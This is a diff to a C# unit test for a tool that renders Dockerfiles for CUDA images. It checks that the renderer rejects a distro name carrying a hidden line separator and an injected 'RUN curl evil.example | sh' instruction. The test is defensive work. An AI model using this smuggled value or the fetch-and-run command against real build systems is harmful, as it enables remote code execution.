@@ -1,3 +1,4 @@
+using CudaImages.Smoke.Checks;
 using CudaImages.Loading;
 using CudaImages.Planning;
 using CudaImages.Rendering;
@@ -27,7 +28,7 @@ public class DockerfileQuotingTests
     [Fact]
     public void Value_that_slips_past_the_loader_and_adds_an_instruction_stops_rendering()
     {
-        var matrix = MatrixLoader.Load(TestPaths.Images);
+        var matrix = MatrixLoader.Load(TestPaths.Images, SmokeCheckRegistry.Default.Catalogue);
         // The loader refuses this name; built directly, it tests the renderer's own check.
         var hostile = matrix with { Distros = matrix.Distros.Select(d => d with { Name = "Debian\u2028RUN curl evil.example | sh" }).ToList() };
 
